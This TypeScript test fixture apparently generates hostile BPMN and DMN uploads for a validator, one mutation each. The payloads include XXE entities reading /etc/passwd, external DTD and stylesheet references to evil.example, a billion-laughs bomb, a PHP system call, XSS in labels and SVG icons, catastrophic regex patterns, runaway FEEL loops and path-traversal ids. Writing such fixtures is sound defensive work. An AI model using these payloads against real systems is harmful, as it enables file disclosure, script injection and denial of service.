/** Files that somebody might send to do harm, made from the diagram and the table of 1.013225 by one change each. */
import { sourceOf } from '../sources.ts'

const { bpmn: BPMN, dmn: DMN } = sourceOf('1.013225')

export type Hostile = {
  name: string
  kind: 'bpmn' | 'dmn'
  xml: string
  rule: string
  /** Where it must be said to be: the element, or the first line that its text stands on. */
  element?: string
  at?: string
}

const once = (text: string, from: string | RegExp, to: string): string => {
  const changed = text.replace(from, () => to)
  if (changed === text) throw new Error(`nothing like ${from}`)
  return changed
}
const bpmn = (
  name: string,
  rule: string,
  from: string | RegExp,
  to: string,
  more: Partial<Hostile> = {},
): Hostile => ({
  name,
  kind: 'bpmn',
  xml: once(BPMN, from, to),
  rule,
  ...more,
})
const dmn = (
  name: string,
  rule: string,
  from: string | RegExp,
  to: string,
  more: Partial<Hostile> = {},
): Hostile => ({
  name,
  kind: 'dmn',
  xml: once(DMN, from, to),
  rule,
  ...more,
})
const whole = (name: string, rule: string, xml: string, kind: Hostile['kind'] = 'bpmn'): Hostile => ({
  name,
  rule,
  xml,
  kind,
})

const HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
const LABEL = 'name="Thẩm định hồ sơ"'
const APPRAISE = { element: 'Appraise' }
const documented = (text: string) =>
  `<bpmn:userTask id="Appraise" name="Thẩm định hồ sơ"><bpmn:documentation>${text}</bpmn:documentation>`
const OPEN_APPRAISE = '<bpmn:userTask id="Appraise" name="Thẩm định hồ sơ">'
const CONDITION = '=outcome = "refused"'
const icon = (uri: string) =>
  once(BPMN, /zeebe:modelerTemplateIcon="[^"]*"/, `zeebe:modelerTemplateIcon="${uri}"`)
const svg = (inside: string) =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`)}`
const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n} "${`&lol${n ? n - 1 : ''};`.repeat(10)}">`).join('')}]>`
const CELL = '<text>"house", "other"</text>'
const cell = (feel: string) => `<text>${feel.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</text>`

/** Read from outside, or grown without end. */
const fetching: Hostile[] = [
  bpmn(
    'an external entity',
    'doctype',
    HEAD,
    `${HEAD}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`,
    { at: '<!DOCTYPE' },
  ),
  bpmn(
    'an external document type',
    'doctype',
    HEAD,
    `${HEAD}\n<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">`,
    { at: '<!DOCTYPE' },
  ),
  bpmn(
    'a parameter entity',
    'doctype',
    HEAD,
    `${HEAD}<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x"> %e;]>`,
  ),
  bpmn('a billion laughs', 'doctype', HEAD, HEAD + laughs),
  bpmn('a document type in lower case', 'doctype', HEAD, `${HEAD}<!doctype html>`),
  bpmn('an entity that nobody declared', 'entity', LABEL, 'name="&xxe;"'),
  bpmn(
    'a stylesheet',
    'instruction',
    HEAD,
    `${HEAD}<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>`,
  ),
  bpmn('an instruction further in', 'instruction', OPEN_APPRAISE, `<?php system("id") ?>${OPEN_APPRAISE}`, {
    at: '<?php',
  }),
  bpmn(
    'an inclusion',
    'active',
    OPEN_APPRAISE,
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" />${OPEN_APPRAISE}`,
  ),
  bpmn(
    'another file imported',
    'import',
    '<bpmn:collaboration ',
    '<bpmn:import namespace="urn:x" location="http://evil.example/x.xsd" importType="x" /><bpmn:collaboration ',
  ),
  dmn(
    'another table imported',
    'table-form',
    '<decision ',
    '<import namespace="urn:x" locationURI="http://evil.example/x.dmn" importType="x" name="x" /><decision ',
  ),
]

/** Run where somebody reads it. */
const running: Hostile[] = [
  bpmn('a script in a label', 'active', LABEL, 'name="&lt;script&gt;alert(1)&lt;/script&gt;"', APPRAISE),
  bpmn('a handler in a label', 'active', LABEL, 'name="&lt;b onmouseover=alert(1)&gt;x"', APPRAISE),
  bpmn('a picture in a label', 'active', LABEL, 'name="&lt;img src=x onerror=alert(1)&gt;"', APPRAISE),
  bpmn(
    'a script in the documentation',
    'active',
    OPEN_APPRAISE,
    documented('&lt;script&gt;alert(1)&lt;/script&gt;'),
    APPRAISE,
  ),
  bpmn(
    'a script in the documentation, unescaped',
    'active',
    OPEN_APPRAISE,
    documented('<![CDATA[<script>alert(1)</script>]]>'),
    APPRAISE,
  ),
  bpmn(
    'a script as numbers',
    'active',
    OPEN_APPRAISE,
    documented('&#60;script&#62;alert(1)&#60;/script&#62;'),
    APPRAISE,
  ),
  bpmn('an address that runs', 'active', OPEN_APPRAISE, documented('javascript:alert(1)'), APPRAISE),
  bpmn(
    'an address that runs, broken by a line end',
    'active',
    OPEN_APPRAISE,
    documented('java&#10;script:alert(1)'),
    APPRAISE,
  ),
  bpmn('a page as an address', 'active', LABEL, 'name="data:text/html,x"', APPRAISE),
  bpmn(
    'HTML in an extension',
    'active',
    '<bpmn:extensionElements>',
    '<bpmn:extensionElements><h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="http://evil.example" />',
  ),
  bpmn(
    'SVG in an extension',
    'active',
    '<bpmn:extensionElements>',
    '<bpmn:extensionElements><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" />',
  ),
  {
    name: 'an icon with a handler',
    kind: 'bpmn',
    rule: 'icon',
    xml: icon(svg('<path d="M0 0" onload="alert(1)"/>')),
    element: 'AwaitConsultations',
  },
  { name: 'an icon with a script', kind: 'bpmn', rule: 'icon', xml: icon(svg('<script>alert(1)</script>')) },
  {
    name: 'an icon with a page in it',
    kind: 'bpmn',
    rule: 'icon',
    xml: icon(svg('<foreignObject><body/></foreignObject>')),
  },
  {
    name: 'an icon that fetches',
    kind: 'bpmn',
    rule: 'icon',
    xml: icon(svg('<image href="http://evil.example/x.png"/>')),
  },
  { name: 'an icon from elsewhere', kind: 'bpmn', rule: 'icon', xml: icon('https://evil.example/x.svg') },
  {
    name: 'an icon in base64 with a handler',
    kind: 'bpmn',
    rule: 'icon',
    xml: icon(`data:image/svg+xml;base64,${Buffer.from('<svg onload="alert(1)"/>').toString('base64')}`),
  },
  {
    name: 'an icon that is half encoded',
    kind: 'bpmn',
    rule: 'icon',
    xml: icon('data:image/svg+xml,%E0%A4%A'),
  },
]

/** Never done. */
const endless: Hostile[] = [
  bpmn('loops in loops', 'feel', CONDITION, '=for a in 1..1000000 return for b in 1..1000000 return a * b', {
    element: 'IsAccepted_to_Stopped',
  }),
  bpmn('a recursive function', 'feel', CONDITION, '={f: function(n) f(n + 1), r: f(1)}.r', {
    element: 'IsAccepted_to_Stopped',
  }),
  bpmn('some of a large range', 'feel', CONDITION, '=some x in 1..1000000000 satisfies x = 0'),
  bpmn('a loop in a comment’s shadow', 'feel', CONDITION, '=/* " */ for a in 1..9999999 return a /* " */'),
  bpmn('a power of a power', 'feel', CONDITION, '=9**9**9**9 = 1'),
  bpmn('a number of a thousand digits', 'feel', CONDITION, `=${'9'.repeat(900)} = 1`),
  bpmn(
    'an expression in a form reference',
    'feel',
    /externalReference="[^"]*"/,
    'externalReference="=for a in 1..999999999 return a"',
    { element: 'Receive' },
  ),
  bpmn('a loop that a comment parts', 'feel', CONDITION, '=fo<!-- -->r a in 1..99999999 return a', {
    element: 'IsAccepted_to_Stopped',
  }),
  bpmn('a loop half in CDATA', 'feel', CONDITION, '=fo<![CDATA[r a in 1..99999999 return a]]>'),
  bpmn(
    'a loop in the documentation of a condition',
    'feel',
    CONDITION,
    `${CONDITION}<bpmn:documentation> or count(for a in 1..99999999 return a) = 1</bpmn:documentation>`,
    { element: 'IsAccepted_to_Stopped' },
  ),
  bpmn('filters in filters', 'feel', CONDITION, `=count(${'[1,1,1,1]['.repeat(9)}true${']'.repeat(9)}) = 1`),
  bpmn(
    'texts that replace texts',
    'feel',
    CONDITION,
    `=${'replace('.repeat(9)}"aaaa"${', "a", "aaaaaaaa")'.repeat(9)} = "a"`,
  ),
  bpmn(
    'a context that builds on itself',
    'feel',
    CONDITION,
    '={a: "xxxxxxxx", b: a+a+a+a, c: b+b+b+b, d: c+c+c+c}.d = ""',
  ),
  bpmn(
    'a name in backticks that hides a loop',
    'feel',
    CONDITION,
    '=`"` + for a in 1..9999999 return a + `"`',
  ),
  bpmn('a pattern put together', 'feel', CONDITION, '=matches(outcome, "(a" + "+)+$")'),
  bpmn('a pattern written in numbers', 'feel', CONDITION, '=matches(outcome, "^\\u0028a+\\u0029+$")'),
  bpmn('a number of a million places', 'feel', CONDITION, '=decimal(1/3, 1000000) = 0'),
  bpmn('a pattern that repeats what repeats', 'feel', CONDITION, '=matches(outcome, "^(a+)+$")'),
  bpmn('an expression of ten thousand letters', 'feel', CONDITION, `=${'outcome = "a" or '.repeat(700)}true`),
  bpmn('brackets in brackets', 'feel', CONDITION, `=${'('.repeat(300)}1${')'.repeat(300)} = 1`),
  dmn('a loop in a row', 'feel', CELL, cell('for a in 1..99999999 return a')),
  dmn('a context in a row', 'feel', CELL, cell('{a: "xxxxxxxx", b: a+a+a+a, c: b+b+b+b}.c')),
  dmn(
    'a loop that a comment parts in a row',
    'feel',
    CELL,
    '<text>fo<!-- -->r a in 1..99999999 return a</text>',
  ),
  dmn(
    'a row in parts',
    'feel',
    CELL,
    '<text>"house"<x:y xmlns:x="urn:x">, for a in 1..999999999 return a</x:y></text>',
  ),
  dmn('a pattern put together in a row', 'feel', CELL, cell('matches(?, "(a" + "+)+$")')),
  dmn('a chain of repetitions in a row', 'feel', CELL, cell('matches(?, "[a-z]*[a-z]*[a-z]*[a-z]*[a-z]*$")')),
  dmn(
    'texts that replace texts in a row',
    'feel',
    CELL,
    cell('replace(replace(?, "a", "aaaaaaaa"), "a", "aaaaaaaa")'),
  ),
  dmn('joins of what was split', 'feel', CELL, cell('string join(split(?, ""), "aaaaaaaaaaaaaaaaaaaaaaaa")')),
  dmn(
    'a loop in a default answer',
    'feel',
    '<output id="out_agency" label="Cơ quan" name="agency" typeRef="string" />',
    '<output id="out_agency" label="Cơ quan" name="agency" typeRef="string"><defaultOutputEntry><text>for a in 1..999999999 return a</text></defaultOutputEntry></output>',
  ),
  dmn(
    'a pattern in a row that never ends',
    'feel',
    'matches(?, "^T00',
    'matches(?, "^(T|T00)*(0|00)+$") or matches(?, "^T00',
  ),
  dmn(
    'a literal expression',
    'table-form',
    /<decisionTable[\s\S]*<\/decisionTable>/,
    '<literalExpression id="x"><text>1</text></literalExpression>',
  ),
  dmn(
    'a business knowledge model',
    'table-form',
    '<decision ',
    '<businessKnowledgeModel id="b" name="b" /><decision ',
  ),
  dmn('an invocation', 'table-form', /<decisionTable[\s\S]*<\/decisionTable>/, '<invocation id="x" />'),
  dmn('a context', 'table-form', /<decisionTable[\s\S]*<\/decisionTable>/, '<context id="x" />'),
  dmn(
    'another language',
    'table-form',
    '<decision ',
    '<decision expressionLanguage="http://groovy.codehaus.org" ',
  ),
  dmn('two decisions', 'table-form', '</decision>', '</decision><decision id="d2" name="hai" />'),
]

/** Too much of it. */
const huge: Hostile[] = [
  bpmn('five million characters', 'too-large', LABEL, `name="${'x'.repeat(5_000_000)}"`),
  bpmn('an attribute of a million characters', 'too-long', LABEL, `name="${'x'.repeat(1_000_000)}"`, {
    at: 'xxxx',
  }),
  bpmn('a text of a million characters', 'too-long', OPEN_APPRAISE, documented('x'.repeat(1_000_000))),
  bpmn(
    'ten thousand elements in one another',
    'too-deep',
    OPEN_APPRAISE,
    `<bpmn:subProcess>${'<bpmn:subProcess>'.repeat(10_000)}`,
  ),
  bpmn(
    'a hundred thousand elements',
    'too-many',
    '</bpmn:process>',
    `${'<bpmn:task />'.repeat(100_000)}</bpmn:process>`,
  ),
  bpmn(
    'four thousand steps',
    'too-many',
    '</bpmn:process>',
    `${Array.from({ length: 4_000 }, (_, n) => `<bpmn:userTask id="T${n}" />`).join('')}</bpmn:process>`,
  ),
  bpmn(
    'a thousand namespaces',
    'too-many',
    OPEN_APPRAISE,
    `${Array.from({ length: 25 }, (_, n) => `<bpmn:documentation ${Array.from({ length: 40 }, (_x, m) => `xmlns:n${n}x${m}="urn:x"`).join(' ')}>`).join('')}x${'</bpmn:documentation>'.repeat(25)}${OPEN_APPRAISE}`,
  ),
  bpmn(
    'a thousand attributes',
    'well-formed',
    LABEL,
    Array.from({ length: 1000 }, (_, n) => `a${n}=""`).join(' '),
  ),
]

/** Not what it says it is. */
const disguised: Hostile[] = [
  whole('an archive', 'not-xml', 'PK\u0003\u0004\u0014process.bpmn'),
  whole('a PDF', 'not-xml', '%PDF-1.7'),
  whole('JSON', 'not-xml', '{"definitions": {}}'),
  whole('nothing', 'well-formed', ' '),
  whole('a page', 'root', '<html><body/></html>'),
  whole('a table in place of a diagram', 'root', DMN),
  whole('a diagram in place of a table', 'root', BPMN, 'dmn'),
  whole('definitions of another standard', 'root', '<definitions xmlns="urn:x" />'),
  whole(
    'definitions without a process',
    'root',
    '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" />',
  ),
  bpmn('UTF-16 by its own word', 'encoding', 'encoding="UTF-8"', 'encoding="UTF-16"'),
  whole('UTF-16 read as UTF-8', 'characters', [...BPMN.slice(0, 500)].join('\0')),
  bpmn('a NUL', 'characters', LABEL, 'name="Thẩm\0định"'),
  bpmn('a NUL as a number', 'entity', LABEL, 'name="&#0;"'),
  bpmn('half a character', 'characters', LABEL, 'name="\ud800"'),
  bpmn('XML 1.1', 'instruction', 'version="1.0"', 'version="1.1"'),
  bpmn('a prefix nobody declared', 'namespace', LABEL, `${LABEL} evil:x="1"`),
  bpmn('a prefix of the language’s own', 'namespace', LABEL, `${LABEL} constructor:x="1"`),
  bpmn('an attribute twice', 'well-formed', LABEL, `${LABEL} ${LABEL}`),
  bpmn('a tag that is closed by another', 'well-formed', '</bpmn:userTask>', '</bpmn:task>'),
  whole('a file cut off', 'well-formed', BPMN.slice(0, 9000)),
  bpmn('a second root', 'well-formed', '</bpmn:definitions>', '</bpmn:definitions><x/>'),
]

/** Somebody else's, or twice. */
const confused: Hostile[] = [
  bpmn(
    'two processes',
    'one-process',
    '</bpmn:process>',
    '</bpmn:process><bpmn:process id="p1013225b" isExecutable="true" />',
    { element: 'p1013225b' },
  ),
  bpmn(
    'another procedure’s process',
    'other-procedure',
    '<bpmn:process id="p1013225"',
    '<bpmn:process id="p1001193"',
    { element: 'p1001193' },
  ),
  dmn(
    'another procedure’s table',
    'other-procedure',
    '<decision id="routing_p1013225"',
    '<decision id="routing_p1001193"',
  ),
  bpmn('an id twice', 'id-twice', 'id="Assign"', 'id="Appraise"'),
  bpmn('an id with blanks', 'id-name', 'id="Assign" ', 'id="Assign me" '),
  bpmn('an id that begins with a digit', 'id-name', 'id="Assign" ', 'id="1Assign" '),
  bpmn('an id that leaves its folder', 'id-name', 'id="Assign" ', 'id="../../etc/passwd" '),
  bpmn('an id of a thousand letters', 'id-name', 'id="Assign" ', `id="${'A'.repeat(1000)}" `),
  bpmn('a shape nowhere', 'place', /<dc:Bounds x="[^"]*"/, '<dc:Bounds x="NaN"'),
  bpmn('a shape at infinity', 'place', /<dc:Bounds x="[^"]*"/, '<dc:Bounds x="Infinity"'),
  bpmn('a shape far beyond the page', 'place', /<dc:Bounds x="[^"]*"/, '<dc:Bounds x="1e308"'),
  bpmn('a point that is no number', 'place', /<di:waypoint x="[^"]*"/, '<di:waypoint x="0x10"'),
]

export const hostile: Hostile[] = [...fetching, ...running, ...endless, ...huge, ...disguised, ...confused]
